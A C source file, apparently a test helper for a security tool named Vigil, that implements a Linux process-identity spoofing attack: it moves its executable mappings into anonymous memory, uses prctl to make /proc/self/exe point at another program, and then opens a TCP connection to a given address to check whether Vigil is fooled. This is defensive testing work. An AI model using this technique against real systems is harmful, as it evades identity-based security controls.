// vigil-exeswap: an attack on Vigil's identity checks (tests/tests/tenant.rs). Root borrows the
// identity of another program without running it:
//   1. it moves its own image into anonymous memory: each mapping of its executable is copied
//      into an anonymous mapping that mremap() then puts over the original, so the code runs on
//      from the same addresses (prctl below refuses while any mapping of the old file is left);
//   2. it points its mm->exe_file at EXE with prctl(PR_SET_MM, PR_SET_MM_EXE_FILE), so that
//      /proc/self/exe (and the kernel's exe_file) now names EXE;
//   3. it connects to IP:PORT over TCP, from code in anonymous memory.
// Prints one line: "exeswap: exe=<what /proc/self/exe reads now> connect=<ok or strerror>".
// Usage: vigil-exeswap EXE IP PORT
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <unistd.h>

#define MAX_MAPS 32

struct mapping {
    unsigned long lo, hi;
    int prot;
};

static int fail(const char *what) {
    printf("exeswap: %s: %s\n", what, strerror(errno));
    return 1;
}

int main(int argc, char **argv) {
    if (argc != 4) {
        fprintf(stderr, "usage: vigil-exeswap EXE IP PORT\n");
        return 2;
    }
    char self[4096];
    ssize_t n = readlink("/proc/self/exe", self, sizeof self - 1);
    if (n < 0)
        return fail("readlink /proc/self/exe");
    self[n] = 0;
    int exe = open(argv[1], O_RDONLY);
    if (exe < 0)
        return fail("open EXE");

    // Every mapping of our own file, read before any of them moves.
    struct mapping maps[MAX_MAPS];
    int count = 0;
    FILE *f = fopen("/proc/self/maps", "r");
    if (!f)
        return fail("open /proc/self/maps");
    char line[4352];
    while (fgets(line, sizeof line, f) && count < MAX_MAPS) {
        unsigned long lo, hi;
        char perms[5], path[4096] = "";
        if (sscanf(line, "%lx-%lx %4s %*s %*s %*s %4095s", &lo, &hi, perms, path) < 3)
            continue;
        if (strcmp(path, self) != 0)
            continue;
        maps[count].lo = lo;
        maps[count].hi = hi;
        maps[count].prot = (perms[0] == 'r' ? PROT_READ : 0) | (perms[1] == 'w' ? PROT_WRITE : 0) |
                           (perms[2] == 'x' ? PROT_EXEC : 0);
        count++;
    }
    fclose(f);
    if (count == 0) {
        printf("exeswap: no mapping of %s found\n", self);
        return 1;
    }

    // Copy each one into anonymous memory and move the copy over it. Between the copy and the
    // move nothing writes the image (the stack, the heap and TLS are anonymous already).
    for (int i = 0; i < count; i++) {
        size_t len = maps[i].hi - maps[i].lo;
        void *copy = mmap(NULL, len, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        if (copy == MAP_FAILED)
            return fail("mmap");
        if (maps[i].prot & PROT_READ)
            memcpy(copy, (void *)maps[i].lo, len);
        if (mprotect(copy, len, maps[i].prot) != 0)
            return fail("mprotect");
        if (mremap(copy, len, len, MREMAP_MAYMOVE | MREMAP_FIXED, (void *)maps[i].lo) ==
            MAP_FAILED)
            return fail("mremap");
    }

    if (prctl(PR_SET_MM, PR_SET_MM_EXE_FILE, exe, 0, 0) != 0)
        return fail("prctl(PR_SET_MM_EXE_FILE)");
    char now[4096];
    n = readlink("/proc/self/exe", now, sizeof now - 1);
    if (n < 0)
        return fail("readlink /proc/self/exe after the swap");
    now[n] = 0;

    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[3]))};
    if (inet_pton(AF_INET, argv[2], &to.sin_addr) != 1) {
        printf("exeswap: bad address %s\n", argv[2]);
        return 2;
    }
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (s < 0)
        return fail("socket");
    int rc = connect(s, (struct sockaddr *)&to, sizeof to);
    printf("exeswap: exe=%s connect=%s\n", now, rc == 0 ? "ok" : strerror(errno));
    return 0;
}
